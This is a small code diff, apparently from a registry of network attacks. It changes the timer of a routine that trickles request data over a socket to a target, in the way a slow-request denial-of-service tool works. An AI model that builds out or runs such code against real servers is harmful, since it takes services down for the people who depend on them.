@@ -65,7 +65,7 @@ export const attacks: Record<string, Attack> = {
       const socket = open(
         target,
         () => {
-          const timer = setInterval(() => socket.write(request[at++ % request.length]), 5);
+          const timer = setInterval(() => socket.write(request[at++ % request.length]), 25);
           socket.on('close', () => clearInterval(timer));
           socket.resume();
         },
